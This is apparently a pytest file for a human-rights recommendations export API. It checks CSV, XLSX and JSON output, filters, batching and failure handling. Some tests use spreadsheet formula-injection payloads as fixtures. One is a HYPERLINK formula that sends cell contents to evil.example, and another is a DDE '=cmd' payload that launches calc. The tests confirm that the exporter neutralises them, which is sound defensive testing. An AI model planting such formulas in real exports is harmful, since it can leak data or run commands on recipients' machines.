"""GET /v1/exports/recommendations.{csv,xlsx,json}: encodings, safety, filters, round trip."""

import asyncio
import csv
import io
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from datetime import date, datetime
from typing import Any

import httpx
import openpyxl
import orjson
import pytest
from fastapi import FastAPI
from sqlalchemy import select, text
from sqlalchemy.ext.asyncio import AsyncEngine, AsyncSession, create_async_engine
from sqlalchemy.orm import selectinload

from api.routes.exports import get_snapshot
from models import Body, Document, Recommendation
from models.enums import HrdRelevance, ImplementationStatus, Position, SourceFormat
from suivi.db import create_sessionmaker, upgrade_database
from suivi.errors import DatabaseUnavailable
from suivi.exporters import xlsx
from suivi.exporters.table import COLUMNS, CUT_MARKER
from suivi.services import exports as service
from suivi.services.import_flow import run_import
from tests import factories

CSV_URL = "/v1/exports/recommendations.csv"
XLSX_URL = "/v1/exports/recommendations.xlsx"
JSON_URL = "/v1/exports/recommendations.json"

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "-2+3 civil society organisations",
    "@SUM(A1:A9)",
    "+33 1 23 45 67 89",
]


@pytest.fixture(autouse=True)
def _exports_read_the_test_session(app: FastAPI, session: AsyncSession) -> None:
    """Exports open their own snapshot session; in tests it is the test's, to see its rows."""

    @asynccontextmanager
    async def shared() -> AsyncIterator[AsyncSession]:
        yield session

    app.dependency_overrides[get_snapshot] = lambda: shared


def _csv_rows(response: httpx.Response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


async def _tunisia(session: AsyncSession) -> list[Recommendation]:
    doc = await factories.document(session, "A/HRC/52/10")
    return [
        await factories.recommendation(
            session,
            doc,
            "105.1",
            texts={
                "fr": "Protéger les défenseurs des droits de l'homme et les journalistes.",
                "en": "Protect human rights defenders and journalists.",
            },
            language="fr",
            hrd=HrdRelevance.DIRECT,
            position=Position.SUPPORTED,
            recommending_states=["FRA", "DEU"],
            themes=["Human rights defenders", "Freedom of expression"],
            affected_persons=["human rights defenders"],
            sdgs=["16.10"],
            hrd_reasons=[{"source": "tag", "match": "human rights defenders"}],
            action_category=5,
        ),
        await factories.recommendation(
            session,
            doc,
            "105.2",
            texts={"ar": "حماية المدافعين عن حقوق الإنسان من الانتقام."},
            language="ar",
            hrd=HrdRelevance.RELATED,
            position=Position.NOTED,
            recommending_states=["NOR"],
            themes=["Civic space"],
        ),
        await factories.recommendation(
            session, doc, "105.3", texts={"en": "Ratify the Optional Protocol."}
        ),
    ]


async def test_csv_is_utf8_with_bom_and_keeps_arabic_and_french(
    client: httpx.AsyncClient, session: AsyncSession
) -> None:
    french, arabic, _ = await _tunisia(session)

    response = await client.get(CSV_URL)

    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv; charset=utf-8")
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = _csv_rows(response)
    assert rows[0] == COLUMNS
    by_id = {int(row[0]): dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]}
    assert by_id[french.id]["text"] == french.text
    assert "défenseurs" in by_id[french.id]["text"]
    assert by_id[arabic.id]["text"] == "حماية المدافعين عن حقوق الإنسان من الانتقام."
    assert by_id[french.id]["recommending_states"] == "FRA; DEU"
    assert by_id[french.id]["hrd_reasons"] == "tag: human rights defenders"
    assert by_id[french.id]["document_symbol"] == "A/HRC/52/10"
    assert by_id[french.id]["date"] == "2022-11-10"
    assert by_id[french.id]["action_category"] == "5"
    assert by_id[french.id]["updated_at"].endswith("Z")


async def test_csv_is_an_attachment_named_by_date(client: httpx.AsyncClient) -> None:
    response = await client.get(CSV_URL)

    assert response.headers["content-disposition"] == (
        f'attachment; filename="suivi-recommendations-{date.today().isoformat()}.csv"'
    )
    assert "etag" not in response.headers


async def test_formula_looking_cells_are_neutralised_in_csv(
    client: httpx.AsyncClient, session: AsyncSession
) -> None:
    doc = await factories.document(session, "CCPR/C/TUN/CO/6", body_code="CCPR")
    for number, formula in enumerate(FORMULAS, start=1):
        await factories.recommendation(session, doc, str(number), texts={"en": formula})

    rows = _csv_rows(await client.get(CSV_URL))

    texts = sorted(row[COLUMNS.index("text")] for row in rows[1:])
    assert texts == sorted("'" + formula for formula in FORMULAS)


async def test_hxl_row_follows_the_header(client: httpx.AsyncClient, session: AsyncSession) -> None:
    await _tunisia(session)

    rows = _csv_rows(await client.get(CSV_URL, params={"hxl": "1"}))

    assert rows[0] == COLUMNS
    assert rows[1][:3] == ["#meta+id", "#country+code", "#org+mechanism"]
    assert all(tag.startswith("#") for tag in rows[1])
    assert len(rows) == 2 + 3


async def test_filters_keep_the_same_recommendations_as_the_list(
    client: httpx.AsyncClient, session: AsyncSession
) -> None:
    await _tunisia(session)
    other = await factories.document(session, "A/HRC/52/11", state="EGY")
    await factories.recommendation(session, other, "1", hrd=HrdRelevance.DIRECT)
    queries: list[dict[str, str | list[str]]] = [
        {"state": "TUN", "hrd": "any"},
        {"theme": "Civic space"},
        {"hrd": "direct"},
        {"recommending_state": ["FRA", "NOR"]},
        {"q": "défenseurs"},
        {"q": "حماية"},
        {"mechanism": "upr", "body": "UPR", "document": "A/HRC/52/10"},
        {"position": "supported", "action_category": "5", "sdg": "16.10"},
        {"affected": "human rights defenders", "cycle": "4", "session": "41"},
        {"year_from": "2022", "year_to": "2022", "status": "not_assessed"},
        {"updated_since": "2000-01-01T00:00:00"},
    ]

    for query in queries:
        listed = await client.get("/v1/recommendations", params={**query, "limit": 500})
        exported = _csv_rows(await client.get(CSV_URL, params=query))

        expected = sorted(item["id"] for item in listed.json()["items"])
        assert sorted(int(row[0]) for row in exported[1:]) == expected, query
        assert expected, query


async def test_contradictory_filters_are_a_422_problem(client: httpx.AsyncClient) -> None:
    response = await client.get(CSV_URL, params={"year_from": 2020, "year_to": 2010})

    assert response.status_code == 422
    assert response.headers["content-type"] == "application/problem+json"
    assert [error["name"] for error in response.json()["errors"]] == ["year_to"]


async def test_json_export_refuses_the_hxl_parameter(client: httpx.AsyncClient) -> None:
    response = await client.get(JSON_URL, params={"hxl": "1"})

    assert response.status_code == 422
    assert response.json()["status"] == 422


async def test_xlsx_opens_with_header_typed_cells_and_no_formula(
    client: httpx.AsyncClient, session: AsyncSession
) -> None:
    french, arabic, plain = await _tunisia(session)
    doc = await factories.document(session, "CCPR/C/TUN/CO/6", body_code="CCPR")
    formula = await factories.recommendation(session, doc, "9", texts={"en": FORMULAS[0]})

    response = await client.get(XLSX_URL, params={"hxl": "1"})

    assert response.status_code == 200
    assert response.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert int(response.headers["content-length"]) == len(response.content)
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = book["recommendations"]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == COLUMNS
    assert rows[1][0] == "#meta+id"
    assert sheet.freeze_panes == "A3"
    assert sheet.auto_filter.ref == "A1:V6"
    by_id = {row[0]: dict(zip(COLUMNS, row, strict=True)) for row in rows[2:]}
    assert set(by_id) == {french.id, arabic.id, plain.id, formula.id}
    assert by_id[arabic.id]["text"] == arabic.text
    assert by_id[french.id]["date"] == datetime(2022, 11, 10)
    assert by_id[french.id]["action_category"] == 5
    assert by_id[formula.id]["text"] == "'" + FORMULAS[0]
    text_cells = {cell.value: cell.data_type for cell in sheet["G"][2:]}
    assert text_cells["'" + FORMULAS[0]] == "s"


async def test_xlsx_of_nothing_still_has_its_header(client: httpx.AsyncClient) -> None:
    response = await client.get(XLSX_URL, params={"state": "ZZZ"})

    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["recommendations"]
    assert [list(row) for row in sheet.iter_rows(values_only=True)] == [COLUMNS]


async def _import_into(url: str, content: bytes) -> dict[str, dict[str, object]]:
    """Import `content` into the database at `url`; what it then holds, by natural key."""
    await asyncio.to_thread(upgrade_database, url)
    engine = create_async_engine(url)
    try:
        async with create_sessionmaker(engine).begin() as session:
            report = await run_import(
                session, stream=io.BytesIO(content), name="export.json", actor="test"
            )
            assert report.rejected == 0, report.errors
        async with create_sessionmaker(engine)() as session:
            return await _snapshot(session)
    finally:
        await engine.dispose()


async def _snapshot(session: AsyncSession) -> dict[str, dict[str, object]]:
    recs = (
        await session.scalars(
            select(Recommendation).options(
                selectinload(Recommendation.translations),
                selectinload(Recommendation.position_history),
            )
        )
    ).all()
    bodies = {b.id: b.code for b in (await session.scalars(select(Body))).all()}
    documents = {d.id: d.symbol for d in (await session.scalars(select(Document))).all()}
    return {
        rec.natural_key: {
            "state": rec.state_code,
            "body": bodies[rec.body_id],
            "document": documents.get(rec.document_id) if rec.document_id else None,
            "paragraph": rec.paragraph,
            "language": rec.language,
            "text": rec.text,
            "translations": {t.language: t.text for t in rec.translations},
            "recommending_states": rec.recommending_states,
            "position": rec.position,
            "positions": [p.position for p in rec.position_history],
            "action_category": rec.action_category,
            "session": rec.session,
            "cycle": rec.cycle,
            "issued_date": rec.issued_date,
            "themes": rec.themes,
            "affected_persons": rec.affected_persons,
            "sdgs": rec.sdgs,
            "hrd_relevance": rec.hrd_relevance,
            "hrd_reasons": rec.hrd_reasons,
            "annotation_type": rec.annotation_type,
        }
        for rec in recs
    }


async def test_json_export_imports_into_an_empty_database_as_the_same_recommendations(
    client: httpx.AsyncClient, session: AsyncSession, empty_database_url: str
) -> None:
    await _tunisia(session)
    doc = await factories.document(session, "CCPR/C/TUN/CO/6", body_code="CCPR", cycle=None)
    await factories.recommendation(
        session,
        doc,
        "24",
        texts={"en": FORMULAS[0], "es": "Proteger a los defensores."},
        annotation_type="recommendation",
        status=ImplementationStatus.IN_PROGRESS,
    )

    response = await client.get(JSON_URL)

    assert response.status_code == 200
    assert response.content.startswith(b'{"format":"suivi","version":1,')
    original = await _snapshot(session)
    assert len(original) == 4
    assert await _import_into(empty_database_url, response.content) == original


async def test_snapshot_is_one_read_only_repeatable_read_transaction(engine: AsyncEngine) -> None:
    async with service.snapshot(create_sessionmaker(engine)) as session:
        isolation = await session.scalar(text("SHOW transaction_isolation"))
        read_only = await session.scalar(text("SHOW transaction_read_only"))

    assert (isolation, read_only) == ("repeatable read", "on")


async def test_list_only_parameters_are_refused_not_ignored(client: httpx.AsyncClient) -> None:
    # An export is every recommendation the filters keep, in id order: a `limit` silently
    # ignored would hand a million rows to someone who asked for ten.
    for url in (CSV_URL, XLSX_URL, JSON_URL):
        response = await client.get(url, params={"sort": "-date", "limit": 10, "cursor": "x"})

        assert response.status_code == 422, url
        assert response.headers["content-type"] == "application/problem+json"
        assert sorted(error["name"] for error in response.json()["errors"]) == [
            "cursor",
            "limit",
            "sort",
        ]


async def test_every_text_column_is_neutralised_and_numbers_stay_numbers(
    client: httpx.AsyncClient, session: AsyncSession
) -> None:
    doc = await factories.document(session, "=cmd|' /C calc'!A0", body_code="CCPR")
    rec = await factories.recommendation(
        session,
        doc,
        "-1",
        texts={"en": "@SUM(A1)"},
        themes=["+theme", "Civic space"],
        affected_persons=["-persons"],
        sdgs=["=16"],
        hrd=HrdRelevance.DIRECT,
        hrd_reasons=[{"source": "=tag", "match": "x"}],
        action_category=2,
    )
    neutralised = {
        "document_symbol": "'=cmd|' /C calc'!A0",
        "paragraph": "'-1",
        "text": "'@SUM(A1)",
        "themes": "'+theme; Civic space",
        "affected_persons": "'-persons",
        "sdgs": "'=16",
        "hrd_reasons": "'=tag: x",
    }

    csv_row = dict(zip(COLUMNS, _csv_rows(await client.get(CSV_URL))[1], strict=True))
    sheet = openpyxl.load_workbook(io.BytesIO((await client.get(XLSX_URL)).content)).active
    assert sheet is not None
    xlsx_row = dict(zip(COLUMNS, next(sheet.iter_rows(min_row=2, values_only=True)), strict=True))

    for row in (csv_row, xlsx_row):
        assert {column: row[column] for column in neutralised} == neutralised
    assert (xlsx_row["id"], xlsx_row["action_category"], xlsx_row["cycle"]) == (rec.id, 2, 4)
    assert (csv_row["id"], csv_row["action_category"]) == (str(rec.id), "2")


async def test_csv_keeps_quotes_commas_and_line_breaks_inside_a_cell(
    client: httpx.AsyncClient, session: AsyncSession
) -> None:
    doc = await factories.document(session, "A/HRC/52/10")
    text_ = 'Say "protect",\r\nthen act;\rand\nreport, again.'
    await factories.recommendation(session, doc, "1", texts={"en": text_})

    response = await client.get(CSV_URL)

    rows = _csv_rows(response)
    assert len(rows) == 2
    assert rows[1][COLUMNS.index("text")] == text_
    assert response.content.endswith(b"\r\n")


async def test_xlsx_cell_over_excel_limit_is_cut_with_a_marker_and_csv_keeps_it_whole(
    client: httpx.AsyncClient, session: AsyncSession
) -> None:
    doc = await factories.document(session, "A/HRC/52/10")
    # Each emoji is two UTF-16 units, as Excel counts a cell's length.
    long_text = "Protect defenders 😀. " * 3_000
    await factories.recommendation(session, doc, "1", texts={"en": long_text})

    workbook = await client.get(XLSX_URL)
    table = await client.get(CSV_URL)

    sheet = openpyxl.load_workbook(io.BytesIO(workbook.content)).active
    assert sheet is not None
    cell = str(sheet.cell(row=2, column=COLUMNS.index("text") + 1).value)
    assert len(cell.encode("utf-16-le")) // 2 <= 32_767
    assert cell.endswith(CUT_MARKER)
    assert long_text.startswith(cell.removesuffix(CUT_MARKER))
    assert len(cell) > 20_000
    assert _csv_rows(table)[1][COLUMNS.index("text")] == long_text


@pytest.mark.parametrize("batch_size", [1, 2, 3, 4, 5])
async def test_exports_are_whole_and_valid_wherever_a_batch_ends(
    client: httpx.AsyncClient,
    session: AsyncSession,
    monkeypatch: pytest.MonkeyPatch,
    batch_size: int,
) -> None:
    monkeypatch.setattr(service, "BATCH_SIZE", batch_size)
    doc = await factories.document(session, "A/HRC/52/10")
    recs = [
        await factories.recommendation(session, doc, str(n), texts={"en": f"R{n}", "fr": f"F{n}"})
        for n in range(4)
    ]
    ids = [rec.id for rec in recs]

    exported = orjson.loads((await client.get(JSON_URL)).content)
    rows = _csv_rows(await client.get(CSV_URL, params={"hxl": "1"}))
    sheet = openpyxl.load_workbook(io.BytesIO((await client.get(XLSX_URL)).content)).active
    assert sheet is not None

    assert [item["texts"] for item in exported["recommendations"]] == [
        {"en": f"R{n}", "fr": f"F{n}"} for n in range(4)
    ]
    assert [int(row[0]) for row in rows[2:]] == ids
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == ids


def _failing_batches(
    real: Callable[..., AsyncIterator[list[Any]]], after: int
) -> Callable[..., AsyncIterator[list[Any]]]:
    async def batches(session: AsyncSession, **kwargs: Any) -> AsyncIterator[list[Any]]:
        done = 0
        async for batch in real(session, **kwargs):
            if done == after:
                break
            yield batch
            done += 1
        raise DatabaseUnavailable("The database went away.")

    return batches


@pytest.mark.parametrize(
    ("url", "source"), [(CSV_URL, "table_batches"), (JSON_URL, "portable_batches")]
)
async def test_a_failure_in_the_first_batch_is_a_problem_not_a_short_file(
    client: httpx.AsyncClient,
    session: AsyncSession,
    monkeypatch: pytest.MonkeyPatch,
    url: str,
    source: str,
) -> None:
    await _tunisia(session)
    monkeypatch.setattr(service, source, _failing_batches(getattr(service, source), 0))

    response = await client.get(url)

    assert response.status_code == 503
    assert response.headers["content-type"] == "application/problem+json"
    assert response.json()["detail"] == "The database went away."


@pytest.mark.parametrize(
    ("url", "source"), [(CSV_URL, "table_batches"), (JSON_URL, "portable_batches")]
)
async def test_a_failure_mid_stream_breaks_the_response_instead_of_ending_it(
    app: FastAPI,
    session: AsyncSession,
    monkeypatch: pytest.MonkeyPatch,
    url: str,
    source: str,
) -> None:
    await _tunisia(session)
    monkeypatch.setattr(service, "BATCH_SIZE", 1)
    monkeypatch.setattr(service, source, _failing_batches(getattr(service, source), 2))
    # Raising app exceptions: a real server then closes the connection without the last chunk,
    # so no client takes the rows received so far for a whole export.
    transport = httpx.ASGITransport(app=app)

    async with httpx.AsyncClient(transport=transport, base_url="http://suivi.test") as client:
        try:
            await client.get(url)
        except Exception as exc:  # the server's wrapper of the failure may vary
            failure: BaseException | None = exc
        else:
            pytest.fail("the export ended as if it were whole")

    causes = []
    while failure is not None:
        causes.append(failure)
        failure = failure.__cause__ or failure.__context__
    assert any(isinstance(cause, DatabaseUnavailable) for cause in causes)


async def test_json_export_of_nothing_is_a_valid_empty_export(client: httpx.AsyncClient) -> None:
    response = await client.get(JSON_URL, params={"state": "ZZZ"})

    assert orjson.loads(response.content) == {
        "format": "suivi",
        "version": 1,
        "recommendations": [],
    }


async def test_xlsx_goes_on_in_a_new_sheet_past_the_row_limit(
    client: httpx.AsyncClient, session: AsyncSession, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(xlsx, "MAX_ROWS", 4)
    doc = await factories.document(session, "A/HRC/52/10")
    recs = [await factories.recommendation(session, doc, str(n)) for n in range(5)]

    book = openpyxl.load_workbook(
        io.BytesIO((await client.get(XLSX_URL, params={"hxl": "1"})).content)
    )

    assert book.sheetnames == [
        "recommendations",
        "recommendations (2)",
        "recommendations (3)",
    ]
    ids = []
    for sheet in book.worksheets:
        rows = list(sheet.iter_rows(values_only=True))
        assert list(rows[0]) == COLUMNS
        assert rows[1][0] == "#meta+id"
        assert sheet.freeze_panes == "A3"
        ids += [row[0] for row in rows[2:]]
    assert ids == [rec.id for rec in recs]


async def test_xlsx_text_that_looks_like_a_link_or_number_stays_plain_text(
    client: httpx.AsyncClient, session: AsyncSession
) -> None:
    # A hyperlink per URL would run into Excel's 65,530 links a sheet and 2,079 characters a
    # link; a number would lose a paragraph's trailing zero.
    doc = await factories.document(session, "A/HRC/52/10")
    await factories.recommendation(session, doc, "105.10", texts={"en": "https://example.org/x"})

    sheet = openpyxl.load_workbook(io.BytesIO((await client.get(XLSX_URL)).content)).active
    assert sheet is not None

    paragraph = sheet.cell(row=2, column=COLUMNS.index("paragraph") + 1)
    link = sheet.cell(row=2, column=COLUMNS.index("text") + 1)
    assert (paragraph.value, paragraph.data_type) == ("105.10", "s")
    assert (link.value, link.data_type, link.hyperlink) == ("https://example.org/x", "s", None)


async def test_source_format_filter_exports_only_the_formats_asked_with_the_column(
    client: httpx.AsyncClient, session: AsyncSession
) -> None:
    sample, real, _ = await _tunisia(session)
    sample.source_format = SourceFormat.SAMPLE
    real.source_format = SourceFormat.UPR_INFO
    await session.flush()
    column = COLUMNS.index("source_format")

    for formats, expected in (
        (["sample"], {sample.id: "sample"}),
        (["sample", "upr_info"], {sample.id: "sample", real.id: "upr_info"}),
    ):
        params = {"source_format": formats}
        csv_rows = _csv_rows(await client.get(CSV_URL, params=params))
        xlsx = await client.get(XLSX_URL, params=params)
        sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content))["recommendations"]
        xlsx_rows = list(sheet.iter_rows(values_only=True))
        exported = orjson.loads((await client.get(JSON_URL, params=params)).content)

        assert csv_rows[0] == list(xlsx_rows[0]) == COLUMNS
        assert {int(row[0]): row[column] for row in csv_rows[1:]} == expected, formats
        assert {row[0]: row[column] for row in xlsx_rows[1:]} == expected, formats
        assert {rec["source_format"] for rec in exported["recommendations"]} == set(formats)
        assert len(exported["recommendations"]) == len(expected)
    for url in (CSV_URL, XLSX_URL, JSON_URL):
        bogus = await client.get(url, params={"source_format": "bogus"})
        assert bogus.status_code == 422, url
        assert [error["name"] for error in bogus.json()["errors"]] == ["source_format"]
